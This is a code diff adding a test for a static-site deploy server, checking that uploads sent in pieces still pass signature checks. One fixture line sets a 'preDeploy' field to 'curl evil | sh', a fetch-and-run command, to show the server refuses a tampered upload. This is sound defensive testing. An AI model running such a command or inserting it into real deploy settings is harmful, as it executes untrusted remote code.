@@ -1,4 +1,5 @@
 /* Signed uploads over HTTP: the three fields of the form, keys, policy, and the files that come back. */
+import { createHash } from 'node:crypto'
 import { existsSync, readdirSync } from 'node:fs'
 import { join } from 'node:path'
 import t from 'tap'
@@ -62,4 +63,48 @@ t.test('a signed upload over HTTP', async t => {
   })
   t.match(await push([...signed, ...sbom]), { status: 403, body: { code: 'signature_unknown_key' } })
   t.match(await client.post('/api/signing-keys/key_none/revoke'), { status: 404 })
+})
+
+t.test('an upload in pieces is signed as any other', async t => {
+  const stage = await startServer(t)
+  const { client, as, sites, home } = stage
+  const shop = await stage.createProject('shop')
+  const ana = aKey('ana')
+  await client.post('/api/signing-keys', { public: ana.row.public, name: 'ana' })
+  await client.put(`/api/projects/${shop.id}`, { ...shop, policy: { signatures: { require: 'refuse' } } })
+  const files = { 'index.html': 'hello' }
+  const pusher = as(shop.token)
+  /** Sends the file in two pieces, and then the form. */
+  const push = async (contents: Record<string, string>, more: FormFields) => {
+    const bytes = await zipOf(contents)
+    const sha256 = createHash('sha256').update(bytes).digest('hex')
+    const begun = await pusher.post('/api/uploads', { projectId: shop.id, bytes: bytes.length, sha256 })
+    const { uploadId, offset: from } = begun.body
+    for (const [at, end] of [
+      [0, 50],
+      [50, bytes.length]
+    ] as const) {
+      if (at < from) continue
+      const headers = { 'content-type': 'application/octet-stream', 'upload-offset': String(at) }
+      await pusher.send('PATCH', `/api/uploads/${uploadId}`, { headers, body: bytes.subarray(at, end) })
+    }
+    return pusher.upload([['projectId', shop.id], ['uploadId', uploadId], ...more])
+  }
+  const { statement, signatures } = signedBy(statementOf(shop.id, files), ana)
+  const signed: FormFields = [
+    ['statement', statement],
+    ['signature', signatures[0] as string]
+  ]
+  t.match(await push(files, []), { status: 403, body: { code: 'signature_missing' } })
+  const script: FormFields = [['preDeploy', 'curl evil | sh']]
+  t.match(await push(files, [...signed, ...script]), { status: 403, body: { code: 'signature_bad' } })
+  const other = eventsOf(await push({ 'index.html': 'evil!' }, signed)).pop()
+  t.match(other, { status: 'failed' })
+  t.match(
+    (await client.get(`/api/logs/${other.deployId}`)).body.errorMessage,
+    /does not contain the files that were signed/
+  )
+  t.notOk(existsSync(join(sites, 'shop/index.html')))
+  t.match(eventsOf(await push(files, signed)).pop(), { status: 'success' })
+  t.strictSame(readdirSync(home.tmp), [], 'nothing is left of what was refused')
 })
